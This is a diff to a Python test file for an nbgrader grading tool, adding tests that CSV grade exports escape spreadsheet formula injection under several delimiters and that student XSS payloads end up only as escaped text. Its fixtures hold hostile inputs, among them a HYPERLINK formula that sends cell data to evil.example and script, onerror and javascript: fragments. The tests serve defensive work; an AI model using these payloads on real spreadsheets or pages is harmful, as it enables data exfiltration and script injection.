@@ -423,10 +423,76 @@ def test_stock_nbgrader_export_escapes_them_too(graded, tmp_path):
 @pytest.mark.parametrize("value, cell", [
     ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("bob", "bob"), ("Zoë Ñ", "Zoë Ñ"), ("", ""), (None, ""), (-1.5, -1.5), (6.0, 6.0),
+    ("eve;=1+1", "eve;'=1+1"), ("a|=1", "a|'=1"), ("\t=1", "'\t'=1"), (" =1", "' =1"), ('"=1', '\'"=1'),
 ])
 def test_spreadsheet_cells_follow_owasp(value, cell):
     """Text that starts like a formula gets a leading quote; numbers stay numbers."""
     assert spreadsheet_cell(value) == cell
+
+
+# Ids (and names, e-mails) that only become formulas once a spreadsheet splits the line on another
+# separator than the comma: ``;`` (many European locales), tab, ``|``. collect refuses control
+# characters in ids, but the gradebook also takes students from nbgrader's own commands.
+SPLIT_ATTACKS = {  # student id -> its CSV cell, by the rule of grader/export.py's docstring
+    "eve;=1+1": "eve;'=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1;"x")': '\'=HYPERLINK("http://evil.example/?"&A1;"x")',
+    "\t=1": "'\t'=1",
+    "a|=1": "a|'=1",
+    "b, -1+2": "b,' -1+2",
+    'c;"@SUM(1)': 'c;\'"@SUM(1)',
+}
+DELIMITERS = [",", ";", "\t", "|"]
+
+
+@pytest.fixture(scope="module")
+def split_gradebook(released, tmp_path_factory):
+    """The released course whose gradebook holds students named to attack every separator."""
+    from nbgrader.api import Gradebook
+
+    root = tmp_path_factory.mktemp("split") / "course"
+    shutil.copytree(released, root)
+    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
+        for student in SPLIT_ATTACKS:
+            gb.add_student(student, last_name="x;=1+1", first_name="@y", email="z|-2+3@example.org")
+    return root
+
+
+def formula_cells(path: Path) -> dict[str, list[str]]:
+    """delimiter -> every cell that starts like a formula (after spaces and double quotes) when the
+    file is read with that delimiter; plain numbers are not formulas."""
+    text = path.read_text(encoding="utf-8")
+    found = {}
+    for delimiter in DELIMITERS:
+        cells = [c for row in csv.reader(text.splitlines(), delimiter=delimiter) for c in row]
+        found[delimiter] = [c for c in cells if c.lstrip(' "')[:1] in ("=", "+", "-", "@", "\t", "\r", "\n")
+                            and not re.fullmatch(r"\s*-?[0-9.]+\s*", c)]
+    return found
+
+
+def test_export_is_safe_whatever_separator_the_spreadsheet_splits_on(split_gradebook, tmp_path):
+    path = export_csv(split_gradebook, tmp_path / "grades.csv")
+    assert formula_cells(path) == {d: [] for d in DELIMITERS}
+    rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
+    assert {r["student_id"] for r in rows} == set(SPLIT_ATTACKS.values())
+    assert {(r["last_name"], r["first_name"], r["email"]) for r in rows} == {("x;'=1+1", "'@y", "z|'-2+3@example.org")}
+    assert {r["max_score"] for r in rows} == {"6.0"}, "numbers stay numbers"
+
+
+def test_stock_nbgrader_export_is_safe_whatever_the_separator(split_gradebook, tmp_path):
+    stock_nbgrader(split_gradebook, "export", "--to", str(tmp_path / "stock.csv"))
+    assert formula_cells(tmp_path / "stock.csv") == {d: [] for d in DELIMITERS}
+
+
+def test_formula_cells_finds_what_an_unescaped_export_leaves(split_gradebook, tmp_path):
+    """The check above can fail: nbgrader's own CSV plugin, on the same gradebook, leaves formulas."""
+    from nbgrader.api import Gradebook
+    from nbgrader.plugins.export import CsvExportPlugin
+
+    path = tmp_path / "plain.csv"
+    with Gradebook(f"sqlite:///{split_gradebook / 'gradebook.db'}") as gb:
+        CsvExportPlugin(to=str(path)).export(gb)
+    found = formula_cells(path)
+    assert all(found[d] for d in DELIMITERS), found
 
 
 def student_script(html: str) -> list[str]:
@@ -437,12 +503,16 @@ def student_script(html: str) -> list[str]:
     return scripts + handlers + links
 
 
-def test_the_payload_reaches_the_autograded_notebook(graded):
-    """Without this the feedback tests below would prove nothing."""
+def test_the_payload_reaches_the_autograded_notebook_only_as_text(graded):
+    """The kernel sent it (without this the feedback tests below would prove nothing), and the
+    grader kept it only cleaned: formgrader shows the autograded notebook to the instructor.
+    Raw payloads reaching feedback (a notebook stock nbgrader autograded) are tested in
+    tests/test_feedback_in_browser.py."""
     text = (graded / "autograded" / "xss" / A / f"{A}.ipynb").read_text(encoding="utf-8")
-    for part in ["<script>window.pwned_script", "onerror=\\\"window.pwned_img", "window.pwned_js",
-                 "javascript:window.pwned_link"]:
-        assert part in text
+    for part in ["&lt;script&gt;window.pwned_script", "&lt;img src=\\\"x\\\" onerror=\\\"window.pwned_img"]:
+        assert part in text, part
+    for part in ["<script>window.pwned", "window.pwned_js", "javascript:window.pwned_link"]:
+        assert part not in text, part
 
 
 def test_feedback_runs_no_script_from_the_student(graded):
